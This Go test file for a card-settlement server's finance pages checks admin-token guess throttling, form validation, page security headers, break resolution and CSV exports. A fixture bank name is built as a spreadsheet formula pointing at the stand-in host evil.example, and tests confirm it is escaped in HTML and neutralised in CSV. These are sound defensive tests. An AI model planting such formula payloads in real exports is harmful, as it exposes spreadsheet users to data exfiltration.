	wantPageError(t, login("203.0.113.9:40002", testAdminToken), http.StatusTooManyRequests, "try again")

	for i := 0; i < loginFreeFailures+1; i++ {
		wantPageError(t, login("[2001:db8:1:2::10]:40000", "guess"), http.StatusUnauthorized, "wrong token")
	}
	wantPageError(t, login("[2001:db8:1:2:ffff::1]:40000", "guess"), http.StatusTooManyRequests, "try again")
	if w := login("[2001:db8:1:3::10]:40000", testAdminToken); w.Code != http.StatusSeeOther {
		t.Fatalf("a client of another /64: %d %s", w.Code, pageError(w))
	}
}

// TestAdminTokenGuessesAreThrottled: the admin token opens the API as a bearer token as well as
// the finance page, so a client guessing it through the API is slowed down as one guessing at the
// login, by the same count: after the free failures its requests are answered 429 with
// Retry-After, the right token too, without the token being looked at, and so is its login.
// Another client is not slowed down.
func TestAdminTokenGuessesAreThrottled(t *testing.T) {
	e := newEnv(t)
	const guesser, other = "203.0.113.9:40000", "198.51.100.7:51000"
	get := func(remote, auth string) *httptest.ResponseRecorder {
		return e.do(t, request{method: "GET", path: "/v1/cards/tok_x", auth: auth, remote: remote})
	}
	for i := 0; i < loginFreeFailures+1; i++ {
		if w := get(guesser, "Bearer guess"); w.Code != http.StatusForbidden {
			t.Fatalf("guess %d: %d %s", i+1, w.Code, w.Body.String())
		}
	}
	w := get(guesser, "")
	if w.Code != http.StatusTooManyRequests || w.Header().Get("Retry-After") != "1" {
		t.Fatalf("the guesser with the right token at once: %d %v %s", w.Code, w.Header(), w.Body.String())
	}
	if got := errorOf(t, w); got.Code != ETOOMANY {
		t.Errorf("throttled: code %q", got.Code)
	}
	if w := (&browser{e: e, remote: guesser}).post(t, "/finance/login", url.Values{"name": {"Anna"}, "token": {testAdminToken}}); w.Code != http.StatusTooManyRequests {
		t.Errorf("the guesser's login: %d", w.Code)
	}
	if w := get(other, ""); w.Code == http.StatusTooManyRequests || w.Code == http.StatusForbidden {
		t.Errorf("another client: %d %s", w.Code, w.Body.String())
	}
	e.clock.Advance(time.Second)
	if w := get(guesser, ""); w.Code == http.StatusTooManyRequests || w.Code == http.StatusForbidden {
		t.Errorf("the guesser after the wait, with the right token: %d %s", w.Code, w.Body.String())
	}
}

// TestAdminAPISuccessesDoNotClearGuesses: a right token through the API does not clear the
// client's failures, so that a guesser sharing an address with a busy admin client (one host,
// one NAT) is not let off by the other's requests; an hour after its last failure a client's
// count is forgotten.
func TestAdminAPISuccessesDoNotClearGuesses(t *testing.T) {
	e := newEnv(t)
	const client = "203.0.113.9:40000"
	get := func(auth string) int {
		return e.do(t, request{method: "GET", path: "/v1/cards/tok_x", auth: auth, remote: client}).Code
	}
	for i := 0; i < loginFreeFailures+1; i++ {
		if got := get("Bearer guess"); got != http.StatusForbidden {
			t.Fatalf("guess %d: %d", i+1, got)
		}
	}
	e.clock.Advance(loginBackoffFirst)
	if got := get(""); got != http.StatusNotFound {
		t.Fatalf("the right token after the wait: %d", got)
	}
	if got := get("Bearer guess"); got != http.StatusForbidden {
		t.Fatalf("a guess after the wait: %d", got)
	}
	if got := get(""); got != http.StatusTooManyRequests {
		t.Fatalf("a success between guesses cleared their count: %d", got)
	}
	e.clock.Advance(loginForgetAfter)
	for i := 0; i < loginFreeFailures; i++ {
		if got := get("Bearer guess"); got != http.StatusForbidden {
			t.Fatalf("an hour on, guess %d: %d", i+1, got)
		}
	}
	if got := get(""); got != http.StatusNotFound {
		t.Fatalf("an hour on, the free failures were not free: %d", got)
	}
}

// TestAdminAPIThrottleDecidesConcurrentRequestsOneByOne: requests with the right token sent at
// once from one client are never held up, and guesses sent at once are each counted before the
// next is looked at: past the free failures and the one that starts the wait, every guess waits.
func TestAdminAPIThrottleDecidesConcurrentRequestsOneByOne(t *testing.T) {
	e := newEnv(t)
	const n = 40
	send := func(remote, auth string) map[int]int {
		var (
			mu    sync.Mutex
			codes = map[int]int{}
			wg    sync.WaitGroup
		)
		for range n {
			wg.Go(func() {
				w := e.do(t, request{method: "GET", path: "/v1/cards/tok_x", auth: auth, remote: remote})
				mu.Lock()
				codes[w.Code]++
				mu.Unlock()
			})
		}
		wg.Wait()
		return codes
	}
	if got := send("198.51.100.7:51000", ""); got[http.StatusNotFound] != n {
		t.Errorf("the admin's requests at once: %v", got)
	}
	if got := send("203.0.113.9:40000", "Bearer guess"); got[http.StatusForbidden] != loginFreeFailures+1 || got[http.StatusTooManyRequests] != n-loginFreeFailures-1 {
		t.Errorf("guesses at once: %v, want %d checked", got, loginFreeFailures+1)
	}
}

// TestLoginThrottlesAreBounded: the table of clients with failures holds at most
// maxLoginClients; clients beyond it share one throttle, so that a guesser spreading over many
// addresses is slowed down as one beyond the bound. A client idle for loginForgetAfter is
// forgotten to make room.
func TestLoginThrottlesAreBounded(t *testing.T) {
	var ls loginThrottles
	now := time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
	guess := func(client string) time.Duration {
		wait, l := ls.admit(client, now)
		if wait == 0 {
			l.failed(now)
		}
		return wait
	}
	for i := 0; i < maxLoginClients; i++ {
		c := fmt.Sprintf("10.0.%d.%d", i/256, i%256)
		for j := 0; j <= loginFreeFailures; j++ {
			if wait := guess(c); wait != 0 {
				t.Fatalf("client %d attempt %d waits %v", i, j, wait)
			}
		}
	}
	if n := ls.size(); n != maxLoginClients {
		t.Fatalf("%d clients kept, want %d", n, maxLoginClients)
	}
	// Beyond the bound, new addresses share one throttle: their guesses add up.
	for j := 0; j <= loginFreeFailures; j++ {
		if wait := guess(fmt.Sprintf("172.16.0.%d", j)); wait != 0 {
			t.Fatalf("overflow attempt %d waits %v", j, wait)
		}
	}
	if wait := guess("172.16.1.1"); wait == 0 {
		t.Fatal("an address beyond the bound guessed freely after others beyond it failed")
	}
	if n := ls.size(); n != maxLoginClients {
		t.Fatalf("%d clients kept, want %d", n, maxLoginClients)
	}
	// Idle long enough, a client is forgotten and a new one takes its place.
	now = now.Add(loginForgetAfter + loginBackoffMax)
	if wait := guess("192.0.2.200"); wait != 0 {
		t.Fatalf("a new client after the others went idle: %v", wait)
	}
	if n := ls.size(); n > maxLoginClients {
		t.Fatalf("%d clients kept, want at most %d", n, maxLoginClients)
	}
}

// TestLoginThrottleCountsAttemptsBeingChecked: guesses sent at once are not all checked before
// the first of them is counted. An attempt let through counts as a failure until it is decided:
// at most loginFreeFailures are checked at once, and past them one at a time, each after the
// wait of the failure before.
func TestLoginThrottleCountsAttemptsBeingChecked(t *testing.T) {
	var l loginThrottle
	now := time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
	for i := 0; i < loginFreeFailures; i++ {
		if wait := l.admit(now); wait != 0 {
			t.Fatalf("free attempt %d waits %v", i+1, wait)
		}
	}
	if wait := l.admit(now); wait == 0 {
		t.Fatal("a guess beyond the free ones was checked while those were still being checked")
	}
	for i := 0; i < loginFreeFailures; i++ {
		l.failed(now)
	}
	// The free failures spent, the next attempt is checked, and no other while it is.
	if wait := l.admit(now); wait != 0 {
		t.Fatalf("the fourth attempt: %v", wait)
	}
	if wait := l.admit(now); wait == 0 {
		t.Fatal("two guesses checked at once past the free ones")
	}
	l.failed(now)
	if wait := l.admit(now); wait != loginBackoffFirst {
		t.Fatalf("after the fourth failure: wait %v, want %v", wait, loginBackoffFirst)
	}
	now = now.Add(loginBackoffFirst)
	if wait := l.admit(now); wait != 0 {
		t.Fatalf("after the wait: %v", wait)
	}
	l.succeeded()
	if wait := l.admit(now); wait != 0 {
		t.Fatalf("after a success: %v", wait)
	}
}

// TestFinanceLoginRefusesBadFields names the field of a login form that cannot be right.
func TestFinanceLoginRefusesBadFields(t *testing.T) {
	e := newEnv(t)
	for _, c := range []struct {
		body, msg string
		status    int
	}{
		{"name=&token=" + testAdminToken, "name: missing", 400},
		{"name=" + strings.Repeat("a", maxWhoBytes+1) + "&token=x", "name: more than", 400},
		{"name=Anna&token=", "token: missing", 400},
		{"name=An%00na&token=x", "name: must not contain control characters", 400},
		{"name=Anna&token=%FF", "token: must be valid utf-8", 400},
		{"name=Anna&token=x&role=admin", `unknown field "role"`, 400},
		{"name=Anna&name=Bob&token=x", "name: duplicate field", 400},
		{"name=Anna&token=x;", "not a valid form", 400},
		{"name=" + strings.Repeat("a", financeFormMaxBytes), "larger than", 413},
	} {
		w := e.do(t, request{method: "POST", path: "/finance/login", auth: "-", body: c.body,
			header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}})
		wantPageError(t, w, c.status, c.msg)
	}
	w := e.do(t, request{method: "POST", path: "/finance/login", auth: "-", body: `{"name":"Anna","token":"x"}`})
	wantPageError(t, w, 400, "content-type: want a form")

	// A name is logged and recorded on what the session resolves: a card number in clear is
	// refused, even with the right token, and neither the page nor the log repeats it.
	w = e.do(t, request{method: "POST", path: "/finance/login", auth: "-", body: "name=Card+" + testPAN + "&token=" + testAdminToken,
		header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}})
	wantPageError(t, w, 400, "name: looks like a card number in clear")
	if strings.Contains(w.Body.String(), testPAN) || strings.Contains(e.log.String(), testPAN) {
		t.Errorf("the card number is in the page or the log: %s\n%s", w.Body.String(), e.log.String())
	}
}

// TestFinanceClosedWithoutAnAdminToken: with no admin token configured no one can log in, and
// every page says why.
func TestFinanceClosedWithoutAnAdminToken(t *testing.T) {
	e := newEnv(t, noAdmin)
	for _, rq := range []request{{method: "GET", path: "/finance/login"}, {method: "GET", path: "/finance/"},
		{method: "POST", path: "/finance/login", body: "name=Anna&token=", header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}}} {
		rq.auth = "-"
		wantPageError(t, e.do(t, rq), http.StatusServiceUnavailable, "no admin token configured")
	}
}

// TestFinancePagesAreNotAPIRoutes: the finance page's routes are pages, listed by Pages and not
// by Routes, so docs/openapi.json (which documents Routes, the API for programs) leaves them out:
// they answer HTML or CSV, never JSON, and know a person only by the session cookie. Every page
// is under /finance/, and every one answers 303 to the login without a session.
func TestFinancePagesAreNotAPIRoutes(t *testing.T) {
	e := newEnv(t)
	for _, rt := range e.srv.Routes() {
		if strings.HasPrefix(rt.Pattern, "/finance") {
			t.Errorf("%s %s is listed as an API route", rt.Method, rt.Pattern)
		}
	}
	var pages []string
	for _, rt := range e.srv.Pages() {
		pages = append(pages, rt.Method+" "+rt.Pattern)
		if !strings.HasPrefix(rt.Pattern, "/finance/") || rt.Admin {
			t.Errorf("page %s %s", rt.Method, rt.Pattern)
		}
	}
	want := []string{"GET /finance/login", "POST /finance/login", "POST /finance/logout", "GET /finance/{$}", "GET /finance/cycles/{date}",
		"GET /finance/cycles/{date}/report.csv", "GET /finance/breaks", "GET /finance/breaks/{id}", "POST /finance/breaks/{id}/resolve",
		"GET /finance/suggestions", "POST /finance/suggestions/{id}", "GET /finance/trial-balance", "GET /finance/trial-balance.csv"}
	if !slices.Equal(pages, want) {
		t.Fatalf("pages %q, want %q", pages, want)
	}
	b := loginAs(t, e, "Anna")
	for _, rt := range e.srv.Pages() {
		path := strings.NewReplacer("{$}", "", "{date}", "2026-02-28", "{id}", breakMismatch.String()).Replace(rt.Pattern)
		if rt.Pattern == "/finance/suggestions/{id}" {
			path = "/finance/suggestions/" + suggestionOne.String()
		}
		var w *httptest.ResponseRecorder
		if rt.Method == http.MethodPost {
			w = b.post(t, path, url.Values{})
		} else {
			w = b.get(t, path)
		}
		ct := w.Header().Get("Content-Type")
		if w.Code == http.StatusSeeOther && w.Header().Get("Location") != "" {
			// a form done: the browser is sent to a page
		} else if !strings.HasPrefix(ct, "text/html") && !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("%s %s: Content-Type %q (%d)", rt.Method, path, ct, w.Code)
		}
		if rt.Pattern == "/finance/login" {
			continue
		}
		anon := &browser{e: e, csrf: b.csrf}
		if rt.Method == http.MethodPost {
			w = anon.post(t, path, url.Values{})
		} else {
			w = anon.get(t, path)
		}
		if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/finance/login" {
			t.Errorf("%s %s without a session: %d", rt.Method, path, w.Code)
		}
	}
	// A wrong method on a page answers 405 in plain text, for a person.
	w := b.send(t, http.MethodDelete, "/finance/breaks", nil, nil)
	if w.Code != http.StatusMethodNotAllowed || !strings.HasPrefix(w.Header().Get("Content-Type"), "text/plain") {
		t.Errorf("DELETE a page: %d %q", w.Code, w.Header().Get("Content-Type"))
	}
}

// --- the pages --------------------------------------------------------------------------------------

// checkPage checks what every page has: UTF-8 declared twice, the policy that loads nothing but
// its style, no cache.
func checkPage(t *testing.T, w *httptest.ResponseRecorder) string {
	t.Helper()
	if w.Code != http.StatusOK {
		t.Fatalf("status %d: %s", w.Code, w.Body.String())
	}
	body := w.Body.String()
	if w.Header().Get("Content-Type") != "text/html; charset=utf-8" || !strings.Contains(body, `<meta charset="utf-8">`) {
		t.Errorf("page without UTF-8: %q", w.Header().Get("Content-Type"))
	}
	csp := w.Header().Get("Content-Security-Policy")
	if !strings.HasPrefix(csp, "default-src 'none'; style-src 'sha256-") || w.Header().Get("Cache-Control") != "no-store" ||
		w.Header().Get("X-Frame-Options") != "DENY" {
		t.Errorf("headers %v", w.Header())
	}
	if strings.Contains(body, "<script") {
		t.Error("a page has a script")
	}
	return strings.ReplaceAll(body, "\n", "") // rows of a table may run over lines
}

// TestFinanceOverviewShowsCyclesCountsAndTheWeekChart: the cycles with their status and fee
// income, the open breaks by age, the suggestions waiting, and the week's chart as SVG with a
// bar per bank and day, the banks' Chinese names in the legend, and the axes titled.
func TestFinanceOverviewShowsCyclesCountsAndTheWeekChart(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	body := checkPage(t, b.get(t, "/finance/"))
	for _, want := range []string{
		`<a href="/finance/cycles/2026-02-28">2026-02-28</a></td><td>2026-03-02</td><td>closed</td><td class="num">1,234.00</td>`,
		`<a href="/finance/cycles/2026-02-27">2026-02-27</a>`,
		`<div class="big" id="open-breaks">3</div>`, `<div class="big" id="suggestions-waiting">1</div>`,
		`<th class="num">0-1 days</th><th class="num">2-7 days</th><th class="num">8-30 days</th><th class="num">over 30 days</th>`,
		`<td class="num">1</td><td class="num">0</td><td class="num">1</td><td class="num">1</td>`,
		`<svg class="chart" id="settled-chart"`, `Net settled per bank and cycle, 2026-02-22 to 2026-02-28, in CNY`,
		`>ICBC-JX ` + icbcName + `</text>`, `>ABC-JX ` + abcName + `</text>`,
		`<title>ICBC-JX ` + icbcName + `, cycle 2026-02-28: -900.00 CNY</title>`,
		`<title>ABC-JX ` + abcName + `, cycle 2026-02-22: 7,000.00 CNY</title>`,
		`>net settled, CNY</text>`, `>02-28 Sat</text>`, `>02-22 Sun</text>`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the overview lacks %q", want)
		}
	}
	// Fourteen bars: two banks with money on seven days; BOC-JX settled nothing.
	if n := strings.Count(body, "<rect x=") - 3; n != 14 { // less the legend's three squares
		t.Errorf("%d bars, want 14", n)
	}
	// The name chosen to be a formula is escaped as text in HTML.
	if strings.Contains(body, `"https://evil.example`) || !strings.Contains(body, html.EscapeString(evilName)) {
		t.Error("a bank's name is not escaped")
	}
}

// TestFinanceCyclePageShowsPositionsFilesAndTheReport: per bank its net position (amounts
// grouped by thousands, right-aligned), its file with the acknowledgement, and the report with
// opening, settled, matched, closing, control totals and breaks by kind and age.
func TestFinanceCyclePageShowsPositionsFilesAndTheReport(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	body := checkPage(t, b.get(t, "/finance/cycles/2026-02-28"))
	for _, want := range []string{
		`<span class="mono">ICBC-JX</span> ` + icbcName + `</td><td class="num">1</td><td class="num">1,234,567.89</td>`,
		`<td class="num">-1,234,567.89</td></tr>`,
		`<span class="mono">ABC-JX</span> ` + abcName + `</td><td class="num">1</td><td class="num">0.00</td><td class="num">1,233,333.89</td><td class="num">1,234.00</td>`,
		`<td class="bank">held: parties without a settlement bank</td><td class="num">1</td>`,
		`<td class="mono">JIC-ABC-JX-20260228-000002</td>`, `<td>accepted</td><td>2026-03-01 16:05:00</td>`, `<td>pending</td>`,
		// the report: ICBC-JX opening, settled, rejected and its items, matched, items matched of those
		// not rejected, closing, items, control sum, breaks, open
		`<td class="num">-5.00</td><td class="num">-1,234,566.89</td><td class="num">-1.00</td><td class="num">1</td><td class="num">0.00</td><td class="num">0 of 1</td><td class="num">-1,234,572.89</td><td class="num">2</td><td class="num">1,234,568.89</td><td class="num">2</td><td class="num">2</td>`,
		`<td class="mono">ICBC-JX</td><td>amount mismatch</td><td class="num">1</td><td class="num">0</td><td class="num">0</td><td class="num">0</td><td class="num">1</td>`,
		`<td class="mono">ICBC-JX</td><td>missing at bank</td><td class="num">0</td><td class="num">0</td><td class="num">1</td>`,
		`<a href="/finance/cycles/2026-02-28/report.csv" id="report-csv">`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the cycle page lacks %q", want)
		}
	}
	wantPageError(t, b.get(t, "/finance/cycles/2026-01-01"), http.StatusNotFound, "cycle 2026-01-01 was never closed")
	wantPageError(t, b.get(t, "/finance/cycles/2026-02-30"), http.StatusBadRequest, "date: want a cycle date")
	e.finance().fail("CycleReport", errBroken)
	wantPageError(t, b.get(t, "/finance/cycles/2026-02-28"), http.StatusInternalServerError, "internal error")
	if !strings.Contains(e.log.String(), errBroken.Error()) {
		t.Error("the internal error's detail is not in the log")
	}
	e.finance().fail("CycleReport", busy)
	wantPageError(t, b.get(t, "/finance/cycles/2026-02-28"), http.StatusServiceUnavailable, "busy")
}

// TestFinanceBreaksListAgesAndFilters: open breaks by default with their age and bucket, all
// with status=all (the resolved one marked with who resolved it), one bank's with bank=.
func TestFinanceBreaksListAgesAndFilters(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	body := checkPage(t, b.get(t, "/finance/breaks"))
	for _, want := range []string{
		`<div class="big" id="open-count">3</div>`,
		`<tr id="break-` + breakMismatch.String() + `"><td class="num">1</td><td>0-1</td><td class="bank"><span class="mono">ICBC-JX</span> ` + icbcName + `</td>`,
		`<a href="/finance/breaks/` + breakMismatch.String() + `">amount mismatch</a></td><td>2026-02-28</td><td class="num">-1,234,567.89</td><td class="num">-1,234,500.00</td>`,
		`<td class="num">40</td><td>over 30</td>`, `<span class="status-open">open</span>`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the breaks page lacks %q", want)
		}
	}
	if strings.Contains(body, breakDone.String()) {
		t.Error("the open breaks list a resolved one")
	}
	body = checkPage(t, b.get(t, "/finance/breaks?status=all"))
	if !strings.Contains(body, `<span class="status-resolved">resolved</span> by 李娜`) || !strings.Contains(body, `All breaks`) {
		t.Error("all breaks: the resolved one is not marked with who resolved it")
	}
	body = checkPage(t, b.get(t, "/finance/breaks?bank=BOC-JX"))
	if !strings.Contains(body, breakGap.String()) || strings.Contains(body, breakMismatch.String()) ||
		!strings.Contains(body, `<option value="BOC-JX" selected>`) {
		t.Error("one bank's breaks: wrong list")
	}
	wantPageError(t, b.get(t, "/finance/breaks?status=closed"), 400, "status: want open or all")
	wantPageError(t, b.get(t, "/finance/breaks?bank=ICBC%20JX"), 400, "bank: must be printable ascii")
	wantPageError(t, b.get(t, "/finance/breaks?sort=age"), 400, `unknown query parameter "sort"`)
	wantPageError(t, b.get(t, "/finance/breaks?status=all&status=open"), 400, "status: give it once")
}

// TestFinanceResolvesABreakWithANoteInThePersonsName: the detail shows the break, its entry and
// the form; the form resolves it in the name of the person logged in, with the time, and the
// break then shows its resolution and no form; open breaks are one fewer.
func TestFinanceResolvesABreakWithANoteInThePersonsName(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "王芳")
	path := "/finance/breaks/" + breakMismatch.String()
	body := checkPage(t, b.get(t, path))
	for _, want := range []string{
		`<dd id="break-kind">amount mismatch</dd>`, `<span class="status-open">open</span>`,
		`<dd class="num" id="break-expected">-1,234,567.89 <span class="muted">value date 2026-02-28</span></dd>`,
		`<dd class="num" id="break-actual">-1,234,500.00`, `<dd class="num">67.89</dd>`,
		`<td class="mono">STMT-7</td><td class="num">3</td><td class="mono">E-3</td><td class="mono">9f0e</td><td class="num">-1,234,500.00</td>`,
		`<td>工商银行 清算 settlement</td>`, `<form method="post" action="` + path + `/resolve" id="resolve">`,
		`name="csrf" value="` + b.csrf + `"`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the break page lacks %q", want)
		}
	}
	e.clock.Advance(90 * time.Minute)
	w := b.post(t, path+"/resolve", url.Values{"action": {"note"}, "note": {"  银行已确认 the bank confirmed the fee  "}})
	if w.Code != http.StatusSeeOther || w.Header().Get("Location") != path {
		t.Fatalf("resolve: %d %s", w.Code, w.Body.String())
	}
	body = checkPage(t, b.get(t, path))
	for _, want := range []string{`<span class="status-resolved">resolved</span>`, `<dd id="resolution-kind">note</dd>`,
		`<dd id="resolution-note">银行已确认 the bank confirmed the fee</dd>`, `<dd id="resolution-by">王芳</dd>`,
		`<dd id="resolution-at">2026-03-01 11:30:00</dd>`} {
		if !strings.Contains(body, want) {
			t.Errorf("the resolved break lacks %q", want)
		}
	}
	if strings.Contains(body, `id="resolve"`) {
		t.Error("a resolved break still offers the form")
	}
	if body := b.get(t, "/finance/").Body.String(); !strings.Contains(body, `<div class="big" id="open-breaks">2</div>`) {
		t.Error("the open breaks did not go down by one")
	}
	wantPageError(t, b.post(t, path+"/resolve", url.Values{"action": {"note"}, "note": {"again"}}), http.StatusConflict, "resolved before")
	if !strings.Contains(e.log.String(), `"by":"王芳"`) {
		t.Error("the resolution is not in the log with who made it")
	}
}

// TestFinanceResolveRefusals: the form's fields are checked, naming each; a break resolved
// before, one without an amount to adjust, and one that does not exist are told apart.
func TestFinanceResolveRefusals(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	resolve := func(id ledger.ID) string { return "/finance/breaks/" + id.String() + "/resolve" }
	for _, c := range []struct {
		path   string
		fields url.Values
		status int
		msg    string
	}{
		{resolve(breakMismatch), url.Values{"action": {"note"}, "note": {"   "}}, 400, "note: missing"},
		{resolve(breakMismatch), url.Values{"action": {"note"}, "note": {strings.Repeat("注", financeNoteMaxBytes/3+1)}}, 400, "note: more than 2000 bytes"},
		{resolve(breakMismatch), url.Values{"action": {"delete"}, "note": {"x"}}, 400, "action: want note or adjustment"},
		{resolve(breakMismatch), url.Values{"action": {"note"}, "note": {"a\x00b"}}, 400, "note: must not contain control characters"},
		{resolve(breakMismatch), url.Values{"action": {"note"}, "note": {"x"}, "by": {"someone else"}}, 400, `unknown field "by"`},
		{"/finance/breaks/not-a-uuid/resolve", url.Values{"action": {"note"}, "note": {"x"}}, 400, "id: want a break id"},
		{resolve(breakDone), url.Values{"action": {"note"}, "note": {"x"}}, 409, "resolved before"},
		{resolve(breakGap), url.Values{"action": {"adjustment"}, "note": {"x"}}, 409, "no amount difference to adjust"},
		{resolve(financeItem), url.Values{"action": {"note"}, "note": {"x"}}, 404, "no break"},
		// A note is kept and shown to everyone who opens the break: never a card number in clear,
		// as the API refuses it too.
		{resolve(breakMismatch), url.Values{"action": {"note"}, "note": {"cardholder 6228 4800 0000 0000 000 called"}}, 400,
			"note: looks like a card number in clear"},
	} {
		wantPageError(t, b.post(t, c.path, c.fields), c.status, c.msg)
	}
	if got, _ := e.finance().Break(context.Background(), breakMismatch); got.Resolution != nil {
		t.Fatalf("a refused form resolved the break: %+v", got.Resolution)
	}
	// A note may run over lines.
	if w := b.post(t, resolve(breakMissing), url.Values{"action": {"adjustment"}, "note": {"line one\r\nline two\tend"}}); w.Code != http.StatusSeeOther {
		t.Fatalf("a note over lines: %d %s", w.Code, w.Body.String())
	}
	got, _ := e.finance().Break(context.Background(), breakMissing)
	if got.Resolution == nil || got.Resolution.Kind != "adjustment" || got.Resolution.Note != "line one\r\nline two\tend" || got.Resolution.By != "Anna" {
		t.Fatalf("resolution %+v", got.Resolution)
	}
	body := b.get(t, "/finance/breaks/"+breakMissing.String()).Body.String()
	if !strings.Contains(body, "<p class=\"muted\">The break has no statement entries") {
		t.Error("a break without entries does not say so")
	}
}

// TestFinanceSuggestionsAcceptAndRefuse: the suggestions list with two buttons; a decision in
// the person's name; deciding again is a conflict.
func TestFinanceSuggestionsAcceptAndRefuse(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	body := checkPage(t, b.get(t, "/finance/suggestions"))
	action := "/finance/suggestions/" + suggestionOne.String()
	for _, want := range []string{`<span class="mono">ABC-JX</span> ` + abcName, `<td class="mono">item ` + financeItem.String() + `</td><td class="num">42.00</td>`,
		`<form class="inline" method="post" action="` + action + `">`, `value="accept">Accept</button>`, `value="refuse" class="danger">Refuse</button>`} {
		if !strings.Contains(body, want) {
			t.Errorf("the suggestions page lacks %q", want)
		}
	}
	if body := b.get(t, "/finance/suggestions?bank=ICBC-JX").Body.String(); !strings.Contains(body, `id="no-suggestions"`) {
		t.Error("another bank's suggestions listed")
	}
	wantPageError(t, b.post(t, action, url.Values{"decision": {"maybe"}}), 400, "decision: want accept or refuse")
	if w := b.post(t, action, url.Values{"decision": {"refuse"}}); w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/finance/suggestions" {
		t.Fatalf("refuse: %d %s", w.Code, w.Body.String())
	}
	if got := e.finance().decided[suggestionOne]; got != "refused by Anna" {
		t.Errorf("decided %q", got)
	}
	wantPageError(t, b.post(t, action, url.Values{"decision": {"accept"}}), 409, "accepted or refused before")
	wantPageError(t, b.post(t, "/finance/suggestions/"+breakGap.String(), url.Values{"decision": {"accept"}}), 404, "no suggestion")
	if body := b.get(t, "/finance/suggestions").Body.String(); !strings.Contains(body, `id="no-suggestions"`) {
		t.Error("a decided suggestion is still listed")
	}
}

// TestFinanceTrialBalanceAtAnInstant: now by default; at the form's local time in Shanghai or
// an RFC 3339 instant; amounts grouped; totals checked per currency.
func TestFinanceTrialBalanceAtAnInstant(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	body := checkPage(t, b.get(t, "/finance/trial-balance"))
	for _, want := range []string{`<input type="datetime-local" id="at" name="at" step="1" value="2026-03-01T10:00:00">`,
		`<strong id="trial-at">2026-03-01 10:00:00</strong>`,
		`<td>cardholder_funds</td><td>CNY</td><td class="num">1,200</td><td class="num">1,000,000.00</td><td class="num">3,000,000.00</td>`,
		`<td class="num">2,000,000.00</td>`, `<span class="status-resolved">debits equal credits</span>`,
		`href="/finance/trial-balance.csv?at=2026-03-01T10:00:00"`} {
		if !strings.Contains(body, want) {
			t.Errorf("the trial balance lacks %q", want)
		}
	}
	for query, want := range map[string]time.Time{
		"?at=2026-02-28T23:00":            time.Date(2026, 2, 28, 15, 0, 0, 0, time.UTC),
		"?at=2026-02-28T23:00:30":         time.Date(2026, 2, 28, 15, 0, 30, 0, time.UTC),
		"?at=2026-02-28T23:00:00%2B08:00": time.Date(2026, 2, 28, 15, 0, 0, 0, time.UTC),
		"?at=2026-02-28T15:00:00.000001Z": time.Date(2026, 2, 28, 15, 0, 0, 1000, time.UTC),
		"?at=":                            t0,
		"":                                t0,
	} {
		f := e.finance()
		f.trialAsked = nil
		checkPage(t, b.get(t, "/finance/trial-balance"+query))
		if len(f.trialAsked) != 1 || !f.trialAsked[0].Equal(want) {
			t.Errorf("%s: asked at %v, want %v", query, f.trialAsked, want)
		}
	}
	wantPageError(t, b.get(t, "/finance/trial-balance?at=yesterday"), 400, "at: want a date and time")
}

// TestFinanceCSVExportsNeutraliseFormulas: the trial balance and a cycle's report download as
// CSV; a bank name that is a formula starts with an apostrophe, negative amounts stay numbers,
// and a byte order mark lets spreadsheets read the Chinese names.
func TestFinanceCSVExportsNeutraliseFormulas(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	read := func(w *httptest.ResponseRecorder, name string) [][]string {
		t.Helper()
		if w.Code != http.StatusOK || w.Header().Get("Content-Type") != "text/csv; charset=utf-8" ||
			w.Header().Get("Content-Disposition") != `attachment; filename=`+name {
			t.Fatalf("download: %d %v", w.Code, w.Header())
		}
		body, ok := bytes.CutPrefix(w.Body.Bytes(), []byte(utf8BOM))
		if !ok {
			t.Fatal("no byte order mark")
		}
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	rows := read(b.get(t, "/finance/cycles/2026-02-28/report.csv"), "cycle-report-2026-02-28.csv")
	if len(rows) != 4 || len(rows[0]) != 15+24 || rows[0][3] != "bank" || rows[0][13] != "rejected_items" || rows[0][15] != "missing_at_bank 0-1" {
		t.Fatalf("report header %q", rows[0])
	}
	boc, icbc := rows[2], rows[3]
	if boc[3] != "BOC-JX" || boc[4] != "'"+evilName {
		t.Errorf("BOC-JX's row %q: the formula is not neutralised", boc)
	}
	if icbc[4] != icbcName || icbc[5] != "-5.00" || icbc[6] != "-1234566.89" || icbc[11] != "-1234572.89" || icbc[12] != "2" ||
		icbc[13] != "1" || icbc[14] != "-1.00" {
		t.Errorf("ICBC-JX's row %q", icbc)
	}
	col := slices.Index(rows[0], "amount_mismatch 0-1")
	if icbc[col] != "1" || rows[1][col] != "0" {
		t.Errorf("amount_mismatch 0-1: %q %q", icbc[col], rows[1][col])
	}
	rows = read(b.get(t, "/finance/trial-balance.csv?at=2026-02-28T23:00"), "trial-balance-20260228T230000.csv")
	if len(rows) != 3 || !slices.Equal(rows[1], []string{"2026-02-28T23:00:00+08:00", "CNY", "cardholder_funds", "1200", "0.00", "1000000.00",
		"0.00", "3000000.00", "2000000.00"}) || rows[2][8] != "-2000000.00" {
		t.Errorf("trial balance %q", rows)
	}
	wantPageError(t, b.get(t, "/finance/cycles/2026-01-01/report.csv"), 404, "never closed")
}

// TestSpreadsheetCellNeutralisesFormulasButKeepsNumbers: each character that starts a formula
// gets an apostrophe; plain numbers, negative ones included, stay numbers; what merely looks
// numeric is text.
